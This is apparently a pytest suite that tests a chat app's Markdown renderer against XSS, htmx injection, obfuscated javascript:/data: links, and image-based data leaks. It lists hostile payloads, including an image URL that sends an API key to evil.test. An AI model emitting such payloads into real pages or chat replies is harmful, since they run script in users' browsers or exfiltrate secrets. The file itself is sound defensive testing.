"""SEC1/SEC2 and R2: assistant Markdown renders, and nothing hostile survives it.

Assertions parse the output as a browser would (html.parser unescapes
attribute values) rather than grepping, so escaped text such as
"&lt;div hx-get=…&gt;" is correctly seen as harmless text.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from django.utils.safestring import SafeString

from chatui.read.markdown import render_markdown

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
    "code", "pre", "blockquote", "ul", "ol", "li", "a", "img",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text.append(data)

    def tags(self, name: str) -> list[dict[str, str]]:
        return [attrs for tag, attrs in self.elements if tag == name]


def parse(markdown: str) -> Elements:
    return Elements(render_markdown(markdown))


def scheme_of(url: str) -> str | None:
    """The scheme a browser would see: entities are already decoded by the parser."""
    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", unquote(url)).lower()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def assert_inert(markdown: str) -> Elements:
    """Nothing executable, no htmx, only allowlisted tags and safe URLs."""
    parsed = parse(markdown)
    for tag, attrs in parsed.elements:
        assert tag in ALLOWED_TAGS, (tag, markdown)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, markdown)
            assert not name.startswith(("hx-", "data-")), (name, markdown)
            assert name != "style", markdown
            if name in ("href", "src"):
                assert scheme_of(value) in (None, "http", "https", "mailto"), (value, markdown)
    return parsed


# -- SEC1: nothing executable ------------------------------------------------------

HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    '<div hx-get="/admin/delete" hx-trigger="load">x</div>',
    '<button hx-on:click="alert(1)" hx-on="click: alert(1)">x</button>',
    '<p data-hx-post="/x" data-hx-trigger="load">x</p>',
    "text <b onmouseover=alert(1)>bold</b> text",
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("source", HOSTILE_HTML)
def test_sec1_raw_html_is_shown_as_text_never_as_markup(source):
    parsed = assert_inert(source)
    assert {tag for tag, _ in parsed.elements} <= {"p"}
    for tag in ("script", "img", "svg", "iframe", "style", "div", "button", "b"):
        assert f"<{tag}" not in render_markdown(source)


JAVASCRIPT_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#x09;script:alert(1))",
    "[x](java%09script:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <JAVA\tSCRIPT:alert(1)>",
    '[x](https://ok.test "\\" onmouseover=\\"alert(1)")',
]


@pytest.mark.parametrize("source", JAVASCRIPT_LINKS)
def test_sec1_javascript_and_data_links_die_in_every_variant(source):
    parsed = assert_inert(source)
    for attrs in parsed.tags("a"):
        assert scheme_of(attrs.get("href", "")) in (None, "https"), source


def test_sec1_code_class_cannot_carry_attributes():
    parsed = assert_inert('```python" onclick="alert(1)\nprint(1)\n```')
    assert parsed.tags("code") == [{}]  # a quote in the info string drops the class
    parsed = assert_inert("```python onclick=alert(1)\nprint(1)\n```")
    assert parsed.tags("code") == [{"class": "language-python"}]


def test_sec1_output_is_a_safe_string_and_empty_input_is_empty():
    assert isinstance(render_markdown("x"), SafeString)
    assert render_markdown("") == ""


# -- SEC2: no images from other origins ---------------------------------------------

FOREIGN_IMAGES = [
    "![secret](https://evil.test/collect?d=API_KEY)",
    "![secret](HTTP://evil.test/x.png)",
    "![secret](//evil.test/x.png)",
    "![secret](/\\evil.test/x.png)",
    "![secret][img]\n\n[img]: https://evil.test/ref.png",
    "![secret][]\n\n[secret]: //evil.test/collapsed.png",
    "![secret]\n\n[secret]: https://evil.test/shortcut.png",
    '![secret](https://evil.test/t.png "title")',
    "![secret](data:image/png;base64,iVBORw0KGgo=)",
    "[![secret](https://evil.test/nested.png)](https://ok.test)",
]


@pytest.mark.parametrize("source", FOREIGN_IMAGES)
def test_sec2_images_from_other_origins_become_links(source):
    parsed = assert_inert(source)
    assert parsed.tags("img") == [], source
    assert "secret" in "".join(parsed.text)


def test_sec2_foreign_image_link_keeps_its_target_and_alt_text():
    parsed = assert_inert("![chart](https://evil.test/c.png)")
    assert parsed.tags("a") == [
        {"href": "https://evil.test/c.png", "rel": "nofollow noopener noreferrer"}
    ]
    assert "".join(parsed.text).strip() == "chart"


def test_sec2_same_origin_images_stay_images():
    parsed = assert_inert("![logo](/static/logo.png)\n\n![r][l]\n\n[l]: /media/r.png")
    assert [attrs["src"] for attrs in parsed.tags("img")] == ["/static/logo.png", "/media/r.png"]
    assert parsed.tags("img")[0]["alt"] == "logo"


# -- R2: Markdown features ---------------------------------------------------------


def test_r2_tables_render_and_alignment_becomes_a_class():
    parsed = assert_inert("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert [tag for tag, _ in parsed.elements if tag in ("table", "th", "td")] == [
        "table",
        "th",
        "th",
        "td",
        "td",
    ]
    assert parsed.tags("th")[1] == {"class": "align-right"}


def test_r2_fenced_code_keeps_its_language_class_and_no_buttons():
    html = render_markdown("```python\nprint('<b>hi</b>')\n```")
    assert html.startswith('<pre><code class="language-python">')
    assert "&lt;b&gt;" in html
    assert "<button" not in html


def test_r2_safe_links_carry_rel():
    parsed = assert_inert("[docs](https://example.com/a?b=1) and [mail](mailto:a@example.com)")
    assert [attrs["rel"] for attrs in parsed.tags("a")] == ["nofollow noopener noreferrer"] * 2
    assert parsed.tags("a")[0]["href"] == "https://example.com/a?b=1"


def test_r2_common_markdown():
    parsed = assert_inert("# Title\n\n- **a**\n- *b* ~~c~~\n\n> quote\n\n1. one")
    tags = [tag for tag, _ in parsed.elements]
    for tag in ("h1", "ul", "li", "strong", "em", "s", "blockquote", "ol"):
        assert tag in tags
